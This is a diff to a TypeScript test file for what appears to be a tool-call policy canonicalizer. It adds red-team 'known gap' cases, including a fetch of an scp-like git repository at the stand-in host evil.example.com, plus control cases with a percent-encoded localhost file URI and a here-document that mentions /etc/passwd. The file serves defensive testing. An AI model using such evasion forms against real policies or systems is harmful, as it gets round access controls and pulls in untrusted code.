@@ -583,12 +583,32 @@ const placement: Attack[] = inClass(7, [
 ]);
 
 /**
- * Attacks the canonicalizer misreads today (red-team findings of issue #16): each gets through the policy it
- * was written for (tests/replay/reading.policy.yaml), so it is kept out of the built-in pack, and
- * tests/replay/reading_pack_test.ts fails as soon as one is blocked, so that it moves into the pack. Empty this
- * list as the canonicalizer is fixed.
+ * Forms the canonicalizer misreads today (red-team findings of issue #16): each attack here gets through the
+ * policy it was written for (tests/replay/reading.policy.yaml) and each control (`control.gap.*`) is blocked, so
+ * they are kept out of the built-in pack, and tests/replay/reading_pack_test.ts fails as soon as one is read
+ * right, so that it moves into the pack. Empty this list as the canonicalizer is fixed.
  */
 export const READING_KNOWN_GAPS: readonly Attack[] = Object.freeze([
+  attack(
+    2,
+    "gap.scp-like-repository",
+    "An scp-like git address under a repository key",
+    fetchCall({
+      repository: "git@evil.example.com:acme/app.git",
+    }),
+  ),
+  control(
+    1,
+    "gap.percent-encoded-localhost-inside",
+    "file: URI inside ./src with localhost percent-encoded (every consumer opens ./src/app.ts)",
+    fsRead("file://%6C%6F%63%61%6C%68%6F%73%74{{cwd}}/src/app.ts"),
+  ),
+  control(
+    5,
+    "gap.heredoc-data-mentions-path",
+    "A quoted here-document written into ./src whose text mentions /etc/passwd",
+    runCommand("cat > src/notes.md <<'EOF'\nsee /etc/passwd\nEOF"),
+  ),
   attack(
     5,
     "gap.glob-over-allowlist-command",
